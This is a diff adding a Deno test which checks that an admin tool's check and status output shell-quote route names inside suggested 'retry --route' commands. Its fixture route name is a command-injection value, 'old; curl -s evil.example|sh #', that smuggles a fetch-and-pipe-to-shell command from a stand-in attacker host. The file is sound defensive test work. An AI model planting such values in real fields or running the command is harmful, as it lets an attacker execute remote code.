@@ -1,0 +1,26 @@
+// Names of routes come from deliveries.db, which an attacker who has taken over `send` can write; root copies commands.
+
+import assert from "node:assert/strict";
+import { inspectDelivery } from "../../src/admin/delivery.ts";
+import { Findings } from "../../src/admin/finding.ts";
+import { statusLines } from "../../src/admin/status_lines.ts";
+import { statusOf } from "../../src/admin/status_of.ts";
+import { routeOverview } from "../helpers/fixtures.ts";
+
+const NAME = "old; curl -s evil.example|sh #";
+const QUOTED = `retry --route 'old; curl -s evil.example|sh #'`;
+
+Deno.test("check and status quote the name of a route in commands, so that a shell runs nothing of it", () => {
+  const overview = {
+    position: { lastId: 1, lastUuid: "x" },
+    routes: [routeOverview({ name: NAME, pending: 1, dead: 1, oldestPendingAtMs: 1 })],
+  };
+  const sources = { overview, unread: { count: 0 }, spooled: { count: 0 }, nowMs: 2 };
+  const findings = new Findings();
+  inspectDelivery({ ...sources, routes: [], runDeadlineMs: 600_000 }, findings);
+  const status = statusOf({ ...sources, config: undefined, isQueueReadable: true, withoutRoom: [], faults: [] });
+  const texts = [...findings.all.map(({ mend }) => mend), ...statusLines(status)];
+  const commands = texts.filter((text) => text.includes("retry --route"));
+  assert.ok(commands.length >= 2);
+  for (const text of commands) assert.equal(text.split("retry --route").length, text.split(QUOTED).length, text);
+});
